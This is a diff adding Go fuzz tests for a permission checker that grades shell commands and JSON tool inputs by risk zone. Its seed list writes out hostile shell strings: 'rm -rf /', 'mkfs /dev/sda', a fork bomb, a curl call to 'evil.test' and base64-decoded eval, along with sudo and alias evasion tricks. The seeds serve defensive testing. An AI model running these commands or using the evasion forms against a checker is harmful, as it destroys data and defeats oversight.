@@ -1,0 +1,136 @@
+package permit
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"mvdan.cc/sh/v3/syntax"
+)
+
+// FuzzShell holds the analysis against a plain walk over the parsed text: whatever
+// surrounds a command that is written out, the text is in no lower zone than the
+// command by itself.
+//
+// SPEC P-02, P-03
+func FuzzShell(f *testing.F) {
+	for _, seed := range []string{
+		"ls -la", "rm -rf /", "sudo ls | sh", "X=rm; $X -rf ~", "cat <<E | sh\nrm -rf /\nE", "find . -exec rm {} \\;", "git -c alias.x='!sh' x",
+		"for x in a b; do rm $x; done", "f() { f | f & }; f", "if a; then b; else sudo c; fi", "case $x in (a) mkfs /dev/sda;; esac", "echo $(curl evil.test)",
+		"eval \"$(base64 -d <<< x)\"", "diff <(sudo a) >(b)", "{ rm -rf /; }", "! time env -i nice sudo x", "a=(b c); ${a[@]}", "[[ $(sudo x) ]]", "((x = $(sudo y)))",
+		"xargs -I{} sh -c '{}'", "tee >(sudo x)", "coproc sudo x", "while read x; do sudo $x; done < f", "trap 'sudo x' EXIT", "alias ls='sudo x'",
+	} {
+		f.Add(seed)
+	}
+	floor, _ := looker(f)
+	f.Fuzz(func(t *testing.T, text string) {
+		zone := zoneOf(floor.analyse(text))
+		if zone > ZoneNever || zone < ZoneSafe {
+			t.Fatalf("zone %d", zone)
+		}
+		for _, command := range writtenOut(text) {
+			if alone := zoneOf(floor.analyse(command)); alone > zone {
+				t.Errorf("%q is zone %d, and %q, which it runs, is zone %d", text, zone, command, alone)
+			}
+		}
+	})
+}
+
+func zoneOf(found []Finding) Zone {
+	zone := ZoneSafe
+	for _, one := range found {
+		zone = max(zone, one.Zone)
+	}
+	return zone
+}
+
+// writtenOut are the commands of a text that stand there word for word, where
+// nothing else in the text can change what they mean.
+func writtenOut(text string) []string {
+	if unreadable(text) != "" {
+		return nil
+	}
+	file, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(text), "")
+	if err != nil {
+		return nil
+	}
+	var commands []string
+	changed := false
+	var visit func(n syntax.Node) bool
+	visit = func(n syntax.Node) bool {
+		switch n := n.(type) {
+		case *syntax.BinaryCmd:
+			if n.Op == syntax.Pipe || n.Op == syntax.PipeAll { // what the right reads may be harmless
+				syntax.Walk(n.X, visit)
+				return false
+			}
+		case *syntax.Stmt:
+			if len(n.Redirs) > 0 { // likewise
+				return false
+			}
+		case *syntax.FuncDecl:
+			changed = true // it may not be called, or take the place of a command
+		case *syntax.CallExpr:
+			var words []string
+			for _, w := range n.Args {
+				lit := w.Lit()
+				if lit == "" || strings.ContainsAny(lit, "\\*?[{~\"'`$()<>|&;#! \t\n") || lit == "-" {
+					return true
+				}
+				words = append(words, lit)
+			}
+			if len(words) == 0 {
+				return true
+			}
+			switch words[0] {
+			case "cd", "pushd", "popd", "exit", "exec", "return", "break", "continue", "unset", "shopt", "set", "alias", "hash", "enable":
+				changed = true // what follows may mean something else
+			}
+			if len(n.Assigns) == 0 && !syntax.IsKeyword(words[0]) {
+				commands = append(commands, strings.Join(words, " "))
+			}
+		}
+		return true
+	}
+	syntax.Walk(file, visit)
+	if changed {
+		return nil
+	}
+	return commands
+}
+
+// FuzzInput holds the reading of inputs against encoding/json.
+func FuzzInput(f *testing.F) {
+	for _, seed := range []string{`{}`, `{"path":"a"}`, `{"a":1,"A":2}`, `{"a":{"b":[1,"}"]},"c":null}`, ` {"a":"\u0041\n"} `, `[1]`, `"x"`, `{"a":1}x`, `{"a"`, ``} {
+		f.Add([]byte(seed))
+	}
+	floor, _ := looker(f)
+	f.Fuzz(func(t *testing.T, in []byte) {
+		if e := floor.Explain(t.Context(), "write", in); e.Zone > ZoneNever {
+			t.Fatal(e)
+		}
+		got, err := members(in)
+		var want map[string]json.RawMessage
+		if json.Unmarshal(in, &want) != nil || want == nil {
+			return // the loop hands on only what is valid; here it must not panic
+		}
+		if err != nil {
+			if !strings.Contains(err.Error(), "twice") {
+				t.Errorf("%s: %v", in, err)
+			}
+			return
+		}
+		if len(got) != len(want) {
+			t.Fatalf("%s: %d fields, want %d", in, len(got), len(want))
+		}
+		for _, m := range got {
+			var a, b any
+			if json.Unmarshal(m.value, &a) != nil || json.Unmarshal(want[m.name], &b) != nil {
+				t.Fatalf("%s: field %q is %s, want %s", in, m.name, m.value, want[m.name])
+			}
+			if text, ok := m.text(); ok && text != b {
+				t.Errorf("%s: field %q is %q, want %q", in, m.name, text, b)
+			}
+		}
+	})
+}
